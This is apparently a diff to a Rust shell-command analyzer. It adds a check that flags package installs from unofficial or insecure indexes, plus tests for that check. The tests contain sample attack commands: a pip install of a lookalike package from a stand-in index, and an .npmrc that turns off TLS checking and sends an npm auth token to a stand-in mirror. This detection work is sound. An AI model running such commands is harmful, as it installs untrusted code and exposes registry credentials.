@@ -1192,6 +1192,23 @@ fn dispatch(a: &mut Analyzer, args: &Args, env: &mut Env, stdin: Option<&Val>, s
             Val::unknown("")
         }
         "pip" | "pip3" | "pipx" | "uv" | "npm" | "npx" | "pnpm" | "yarn" | "bunx" | "uvx" | "gem" | "cargo" | "go" => {
+            // An index or registry named on the command line (`--index-url URL`,
+            // `--registry=URL`), and `npm config set registry URL`.
+            let joined = join_args(args, 1).text;
+            let lower = joined.to_ascii_lowercase();
+            if [
+                "--index-url",
+                "--extra-index-url",
+                "-i ",
+                "--registry",
+                "config set registry",
+                "--index ",
+            ]
+            .iter()
+            .any(|k| format!("{lower} ").contains(k))
+            {
+                super::effects::package_source(a, &joined, span, &name);
+            }
             for v in args.vals.iter().skip(1) {
                 if let Some(url) = first_url(&v.text)
                     && let Some((host, path)) = split_url(url)
@@ -2050,6 +2067,25 @@ mod tests {
         assert!(t.iter().any(|t| t == "exec/fetched"), "{t:?}");
         let ok = tags("rundll32.exe shell32.dll,Control_RunDLL", Lang::Shell);
         assert!(!ok.iter().any(|t| t.starts_with("exec")), "{ok:?}");
+    }
+
+    #[test]
+    fn an_unofficial_package_index_is_seen_and_an_insecure_one_is_worse() {
+        let t = tags(
+            "pip install --index-url https://pypi.llm-pkgs.example/simple/ langchain-core-utils",
+            Lang::Shell,
+        );
+        assert!(t.iter().any(|t| t == "package-source/changed"), "{t:?}");
+        let t = tags(
+            "cat > ~/.npmrc <<EOF\nregistry=https://npm.pkg-mirror.example.com/\nstrict-ssl=false\n//npm.pkg-mirror.example.com/:_authToken=${NPM_TOKEN}\nEOF",
+            Lang::Shell,
+        );
+        assert!(t.iter().any(|t| t == "package-source/insecure"), "{t:?}");
+        let ok = tags(
+            "pip install torch --index-url https://download.pytorch.org/whl/cu121",
+            Lang::Shell,
+        );
+        assert!(!ok.iter().any(|t| t.starts_with("package-source")), "{ok:?}");
     }
 
     #[test]
